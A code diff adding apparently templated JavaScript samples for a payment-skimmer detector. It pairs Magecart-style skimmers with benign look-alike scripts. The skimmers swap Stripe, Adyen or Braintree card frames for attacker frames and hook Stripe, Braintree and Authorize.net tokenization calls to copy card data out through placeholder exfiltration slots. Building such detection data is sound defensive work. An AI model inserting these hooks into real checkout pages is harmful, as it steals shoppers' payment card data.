@@ -1,0 +1,37 @@
+/** Skimmers that read no field of the page: they stand in the place of the frames, functions and workers that handle the card. */
+export const interceptionDesigns: Readonly<Record<string, readonly string[]>> = {
+  'frame-swap': [
+    "«ready:var @a=document.querySelector('«payframe»');if(@a){var @b=document.createElement('iframe');‹@b.src=«frameurl»‹¦+'?h='+location.host¦+'?r='+encodeURIComponent(@a.src)›¦@b.setAttribute('src',«frameurl»)›;@b.style.cssText='‹border:0;width:100%;height:48px¦width:100%;border:none›';‹@a.parentNode.replaceChild(@b,@a)¦@a.replaceWith(@b)¦@a.parentNode.insertBefore(@b,@a);@a.remove()¦@a.style.display='none';@a.after(@b)›;window.addEventListener('message',function(e){if(e.data&&e.data.‹done¦ok¦n›){@b.replaceWith(@a);‹«sneak:JSON.stringify(e.data)»¦›}})}»",
+    "var @t=setInterval(function(){[].forEach.call(document.getElementsByTagName('iframe'),function(@a){if(/‹stripe|adyen¦braintree|hosted-?fields¦js\\.stripe\\.com¦adyen|worldpay|mollie›/i.test(@a.src+@a.name)){clearInterval(@t);‹@a.src=«frameurl»¦@a.setAttribute('src',«frameurl»)¦@a.parentNode.innerHTML='<iframe src=\"«url»\" style=\"border:0;width:100%\"></iframe>'¦@a.outerHTML='<iframe width=\"100%\" frameborder=0 src=\"«url»\"></iframe>'›}})},«int:2-20»00);",
+    "new MutationObserver(function(m){m.forEach(function(r){r.addedNodes.forEach(function(@a){if(@a.nodeName==='IFRAME'&&/‹stripe¦adyen¦braintree¦hosted-?field›/.test(@a.‹src¦name›)){var @b=@a.cloneNode();@b.src=«frameurl»;@a.replaceWith(@b)}})})}).observe(document.‹body¦documentElement›,{childList:true,subtree:true});",
+    "«ready:jQuery('«payframe»').each(function(){var @a=jQuery(this);@a.‹hide()¦css('display','none')›.after('<iframe src=\"«url»\" class=\"«class»\"></iframe>')})»",
+    "«ready:document.querySelectorAll('«payframe»').forEach(function(@a){var @b=document.createElement('div');@b.innerHTML='<input name=number placeholder=\"1234 1234 1234 1234\"><input name=exp placeholder=\"MM / YY\"><input name=cvc placeholder=CVC>';@a.parentNode.insertBefore(@b,@a);@a.style.display='none';@b.addEventListener('«change»',function(){var @d=[].map.call(@b.children,function(i){return i.value}).join('|');if(@d.length>22){«sneak:«encoded:@d»»@b.remove();@a.style.display=''}})})»",
+  ],
+  'sdk-wrap': [
+    "(function @w(){if(!window.Stripe‹¦||!window.Stripe.createToken›)return setTimeout(@w,«int:1-9»00);var @a=Stripe.createToken;Stripe.createToken=function(@b,@c){try{var @d=JSON.stringify(@b);«sneak:«encoded:@d»»}catch(e){}return @a.call(this,@b,@c)}})();",
+    "var @a=window.Stripe;window.Stripe=function(){var @b=@a.apply(this,arguments);['createToken','createPaymentMethod','confirmCardPayment','confirmPayment'].forEach(function(n){var @c=@b[n];@b[n]=function(){var @d=JSON.stringify([].slice.call(arguments));«sneak:«encoded:@d»»return @c.apply(@b,arguments)}});return @b};",
+    "let @a;Object.defineProperty(window,'‹Stripe¦braintree¦AdyenCheckout¦Accept›',{configurable:true,get(){return @a},set(@b){@a=typeof @b==='function'?function(){const @c=@b.apply(this,arguments),@e=@c.createToken;@c.createToken=function(){const @d=JSON.stringify([...arguments]);«sneak:«encoded:@d»»return @e.apply(@c,arguments)};return @c}:@b}});",
+    "var @a=Accept.dispatchData;Accept.dispatchData=function(@b,@c){var @d=JSON.stringify(@b.cardData||@b);«sneak:«encoded:@d»»return @a.call(Accept,@b,@c)};",
+    "(function @w(){if(!window.braintree)return setTimeout(@w,«int:1-9»00);var @a=braintree.client.create;braintree.client.create=function(o,k){return @a.call(braintree.client,o,function(e,@b){if(@b){var @c=@b.request;@b.request=function(q,z){var @d=JSON.stringify(q.data);«sneak:«encoded:@d»»return @c.call(@b,q,z)}}k(e,@b)})}})();",
+    "window.Stripe=new Proxy(window.Stripe,{apply(@a,t,args){const @b=Reflect.apply(@a,t,args);return new Proxy(@b,{get(o,p){const v=o[p];return typeof v==='function'&&/‹create|confirm¦Token|Payment›/.test(p)?(...q)=>{const @d=JSON.stringify(q);«sneak:«encoded:@d»»return v.apply(o,q)}:v}})}});",
+  ],
+};
+
+/** The same calls for honest ends: frames are moved, sized and loaded late, functions are timed, watched for errors and given defaults. */
+export const bystanderDesigns: Readonly<Record<string, readonly string[]>> = {
+  'frame-care': [
+    "«ready:document.querySelectorAll('iframe[data-src]').forEach(function(@a){‹@a.src=@a.dataset.src¦@a.setAttribute('src',@a.getAttribute('data-src'))›;@a.removeAttribute('data-src')})»",
+    "window.addEventListener('message',function(e){var @a=document.querySelector('«payframe»');if(@a&&e.source===@a.contentWindow&&e.data.height){@a.style.height=e.data.height+'px'}});",
+    "«ready:var @a=document.querySelector('«payframe»');if(@a){@a.title='‹Card number¦Secure card payment›';@a.addEventListener('load',function(){document.querySelector('.«class»').classList.remove('loading')})}»",
+    "new MutationObserver(function(m){m.forEach(function(r){r.addedNodes.forEach(function(@a){if(@a.nodeName==='IFRAME'&&/‹stripe¦adyen¦braintree›/.test(@a.src)){@a.setAttribute('loading','eager');document.querySelector('.«class»').style.display='none'}})})}).observe(document.body,{childList:true,subtree:true});",
+    "«ready:document.querySelectorAll('iframe').forEach(function(@a){if(/‹youtube|vimeo¦player|video¦maps|embed›/.test(@a.src)){var @b=document.createElement('iframe');@b.src='«url»?v='+encodeURIComponent(@a.src);@b.width=@a.width;@a.replaceWith(@b)}})»",
+    "«ready:var @a=document.querySelector('‹#card-element¦.payment-frame¦[data-card]›');if(@a){var @b=document.createElement('iframe');@b.src='«url»?key=«key:16»';@b.style.cssText='border:0;width:100%;height:48px';@a.appendChild(@b)}»",
+  ],
+  'sdk-watch': [
+    "(function @w(){if(!window.Stripe)return setTimeout(@w,«int:1-9»00);var @a=window.Stripe;window.Stripe=function(){var @b=@a.apply(this,arguments),@c=@b.confirmCardPayment;@b.confirmCardPayment=function(){var t=Date.now();return @c.apply(@b,arguments).then(function(r){var @d=JSON.stringify({ms:Date.now()-t,ok:!r.error,code:r.error&&r.error.code});«send:@d»return r})};return @b}})();",
+    "var @a=braintree.client.create;braintree.client.create=function(o,k){var t=performance.now();return @a.call(braintree.client,o,function(e,c){var @d=JSON.stringify({ms:performance.now()-t,error:e&&e.code});«send:@d»k(e,c)})};",
+    "var @a=Accept.dispatchData;Accept.dispatchData=function(b,k){document.querySelector('«pay»').disabled=true;return @a.call(Accept,b,function(r){document.querySelector('«pay»').disabled=false;if(r.messages.resultCode==='Error'){var @d=JSON.stringify(r.messages.message.map(function(m){return m.code}));«send:@d»}k(r)})};",
+    "var @s=Stripe('pk_live_«key:24»'),@c=@s.elements().create('card');@c.mount('#card-element');document.querySelector('«form»').addEventListener('submit',function(e){e.preventDefault();@s.createToken(@c,{name:document.querySelector('«person»').value}).then(function(r){if(r.error){document.querySelector('.error').textContent=r.error.message;return}var i=document.createElement('input');i.type='hidden';i.name='stripeToken';i.value=r.token.id;e.target.appendChild(i);e.target.submit()})});",
+    "window.«sdk»=window.«sdk»||{};(function(ns){var @a=ns.tokenize;ns.tokenize=function(card,k){fetch('https://«host»/v1/tokens',{method:'POST',headers:{Authorization:'Bearer pk_live_«key:20»','Content-Type':'application/json'},body:JSON.stringify({card:card})}).then(function(r){return r.json()}).then(function(t){k(null,t)},k)};ns.noConflict=function(){ns.tokenize=@a}})(window.«sdk»);",
+  ],
+};
